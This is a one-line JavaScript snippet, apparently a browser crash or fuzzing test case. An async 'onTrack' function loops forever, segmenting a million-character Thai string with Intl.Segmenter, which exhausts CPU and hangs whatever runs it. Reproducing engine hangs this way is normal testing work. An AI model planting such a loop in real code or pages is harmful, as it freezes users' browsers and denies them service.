async function onTrack() { for (;;) for (const _ of new Intl.Segmenter("th").segment("\u0e01".repeat(1e6))); }
